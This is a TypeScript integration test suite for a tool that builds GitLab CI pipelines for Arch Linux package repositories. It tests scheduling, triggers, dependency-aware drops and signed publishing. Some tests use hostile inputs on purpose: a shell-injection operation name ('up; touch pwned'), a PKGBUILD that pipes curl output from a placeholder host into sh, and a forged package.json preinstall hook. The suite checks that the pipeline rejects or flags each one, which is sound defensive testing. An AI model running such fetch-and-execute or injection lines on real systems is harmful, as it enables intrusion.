import { appendFileSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Schedule } from "../tools/schedule/schedule.ts";
import { cannotBuild } from "./world/building.ts";
import { GitlabProject, type PipelineRun } from "./world/gitlab-runner.ts";
import { missingPrograms } from "./world/programs.ts";
import { registryReachable } from "./world/registry.ts";
import { makeSigningKey, recipeFiles, type SigningKey } from "./world/runners.ts";
import { sluice } from "./world/sluice.ts";
import { srcinfoText } from "./world/workspace.ts";

const lacking = [...missingPrograms("rsync"), ...(registryReachable() ? [] : ["npm's registry"])];

let p: GitlabProject;

function addPackage(name: string, pkgver = "1", more = ""): void {
  p.write(`packages/${name}/PKGBUILD`, `pkgname=${name}\npkgver=${pkgver}\npkgrel=1\narch=(any)\n${more}`);
  p.write(`packages/${name}/.SRCINFO`, srcinfoText(name, { pkgver }));
}

const builds = ({ read }: { read: (path: string) => string }): string[] =>
  (JSON.parse(read(".ci/schedule.json")) as Schedule).builds.map(({ pkgbase }) => pkgbase);

describe.skipIf(lacking.length > 0)(
  `the GitLab pipeline (needs ${lacking.join(", ") || "nothing more"})`,
  () => {
    beforeAll(async () => {
      p = new GitlabProject();
      await sluice(["init", "person", "--gitlab", "--name", "mine", "--commit"], { cwd: p.base });
      // A job of one's own, which also keeps gitlab-ci-local content: it wants a file for every include.
      p.write(".gitlab-ci-own.yml", "own:\n  stage: run\n  script: ['echo my own job']\n");
      p.push("start");
    });
    afterAll(() => p.remove());

    test("schedules on a push what it changed, hands the schedule on as an artefact, and runs jobs of one's own", async () => {
      addPackage("foo");
      const head = p.push("foo");
      const run = await p.pipeline("push");
      expect(run.jobs).toEqual({ run: "pass", own: "pass" });
      expect(builds(run)).toEqual(["foo"]);
      expect(p.atOrigin("rev-parse", "scheduled")).toBe(head);
    });

    test("looks for updates on a schedule, and finds what no push has scheduled yet", async () => {
      addPackage("bar");
      const head = p.push("bar [skip ci]");
      const run = await p.pipeline("schedule");
      expect(run.jobs).toMatchObject({ run: "pass" });
      expect(builds(run)).toEqual(["bar"]);
      expect(p.atOrigin("rev-parse", "scheduled")).toBe(head);
    });

    test("fires a trigger that a schedule names", async () => {
      p.write("packages/bar/.CI/config", "CI_ON_TRIGGER=daily\n");
      p.push("bar is built daily");
      expect((await p.form({ OPERATION: "on-commit" })).code).toBe(0);
      const run = await p.pipeline("schedule", { TRIGGER: "daily" });
      expect(run.jobs).toMatchObject({ run: "pass" });
      expect(builds(run)).toEqual(["bar"]);
    });

    test("carries out what forms ask for: schedules, bumps, refuses to drop what is needed, drops it all the same", async () => {
      addPackage("lib");
      p.write("packages/app/PKGBUILD", "pkgname=app\npkgver=1\npkgrel=1\n");
      p.write("packages/app/.SRCINFO", srcinfoText("app", { lines: ["depends = lib"] }));
      p.push("lib and app");
      expect((await p.form({ OPERATION: "on-commit" })).code).toBe(0);

      expect(builds(await p.form({ OPERATION: "schedule", PACKAGES: "app:lib" }))).toEqual(["lib", "app"]);
      expect(builds(await p.form({ OPERATION: "bump", PACKAGES: "lib" }))).toEqual(["lib"]);
      expect(p.atOrigin("show", "main:packages/lib/.CI/config")).toBe("CI_PACKAGE_BUMP=1-1/1");
      p.git("pull", "-q", p.origin, "main");
      const refused = await p.pipeline("web", { OPERATION: "drop", PACKAGES: "lib" });
      expect(refused.jobs).toMatchObject({ run: "warn" });
      expect(refused.output).toContain("still needed by app; nothing was dropped");
      expect((await p.form({ OPERATION: "drop", PACKAGES: "lib", INSIST: "true" })).code).toBe(0);
      expect(p.atOrigin("ls-tree", "--name-only", "main:packages").split("\n")).not.toContain("lib");
      p.git("pull", "-q", p.origin, "main");
      expect((await p.form({ OPERATION: "add" })).output).toContain("set ADD_PACKAGES");
    });

    test("refuses an operation that there is none of, and passes no name on to a shell", async () => {
      const { code, output, read } = await p.form({ OPERATION: "up; touch pwned" });
      expect(code).toBe(2);
      expect(output).toContain("There is no operation up; touch pwned.");
      expect(() => read("pwned")).toThrow(/ENOENT/);
    });

    test("warns, and isn't broken, where a contributor's changes need a person", async () => {
      const base = p.git("rev-parse", "HEAD");
      p.git("checkout", "-q", "-b", "contribution");
      addPackage("baz", "1", 'build() {\n  curl "https://x.example/p" | sh\n}\n');
      p.push("baz", "contribution");
      p.git("checkout", "-q", "main");
      const run = await p.pipeline(
        "merge_request_event",
        { CI_MERGE_REQUEST_DIFF_BASE_SHA: base },
        { branch: "contribution" },
      );
      expect(run.jobs).toMatchObject({ "check-changes": "warn" });
      expect(run.jobs).not.toHaveProperty("run");
      expect(run.output).toContain("### `baz`: added, dangerous");
    });

    test("judges a contribution by the Sluice that main has pinned, whatever the contribution pins", async () => {
      const base = p.git("rev-parse", "main");
      p.git("checkout", "-q", "-b", "forged");
      p.write("package.json", '{"name":"x","scripts":{"preinstall":"touch pwned"}}\n');
      p.write("package-lock.json", "{}\n");
      p.push("forged", "forged");
      p.git("checkout", "-q", "main");
      const run = await p.pipeline(
        "merge_request_event",
        { CI_MERGE_REQUEST_DIFF_BASE_SHA: base },
        { branch: "forged" },
      );
      expect(run.jobs).toMatchObject({ "check-changes": "warn" });
      expect(run.output).toContain("package-lock.json");
      expect(() => run.read("pwned")).toThrow(/ENOENT/);
    });
  },
);

describe.skipIf(lacking.length > 0 || cannotBuild !== "")("GitLab's own runners", () => {
  const file = ".ci/schedule-pipeline.yml";
  let key: SigningKey;
  const build = (run: PipelineRun): Promise<PipelineRun> =>
    p.childPipeline(run, file, { SIGNING_KEY_FILE: key.secret });

  beforeAll(async () => {
    p = new GitlabProject();
    key = makeSigningKey(p.base);
    const args = ["--gitlab", "--name", "mine", "--schedule-to", "runners", "--commit"];
    await sluice(["init", "person", ...args], { cwd: p.base });
    // The runner here is no Arch Linux, and has all that builds need.
    const jobs = readFileSync(join(p.dir, ".gitlab-ci-runners-jobs.yml"), "utf8");
    p.write(".gitlab-ci-runners-jobs.yml", jobs.replace(/^ +- pacman -Syu.*\n/m, ""));
    appendFileSync(join(p.dir, ".ci/config"), `SIGNING_KEY=${key.fingerprint}\n`);
    p.push("start");
  });
  afterAll(() => p.remove());

  test("build in levels, what failed stops only what needs it, and the rest is published", async () => {
    addRecipe("lib");
    addRecipe("app", { depends: ["lib"], functions: "build() {\n  grep -qx 1 /usr/share/lib/hello\n}\n" });
    addRecipe("bad", { functions: "build() {\n  false\n}\n" });
    addRecipe("worse", { depends: ["bad"] });
    p.push("packages");
    const run = await p.pipeline("push", {}, { jobs: ["run"] });
    expect(run.jobs, run.output).toEqual({ run: "pass" });
    const built = await build(run);
    expect(built.jobs, built.output).toEqual({
      "build lib": "pass",
      "build bad": "warn",
      "build app": "pass",
      "build worse": "warn",
      publish: "warn",
      pages: "pass",
    });
    expect(built.output).toMatch(/worse: blocked by bad/);
    const published = readdirSync(join(built.clone, "public/mine/x86_64"));
    expect(published.filter((name) => name.endsWith(".sig")).sort()).toEqual([
      "app-1-1-any.pkg.tar.zst.sig",
      "lib-1-1-any.pkg.tar.zst.sig",
      "mine.db.sig",
      "mine.db.tar.gz.sig",
      "mine.files.sig",
      "mine.files.tar.gz.sig",
    ]);
  });

  test("the pipeline is what GitLab's schema allows also where nothing is scheduled", async () => {
    const run = await p.pipeline("schedule", {}, { jobs: ["run"] });
    expect(run.jobs).toEqual({ run: "pass" });
    const built = await build(run);
    expect(built.jobs, built.output).toEqual({ "nothing to build": "pass" });
  });
});

function addRecipe(name: string, recipe: Parameters<typeof recipeFiles>[1] = {}): void {
  for (const [path, text] of Object.entries(recipeFiles(name, recipe))) p.write(path, text);
}
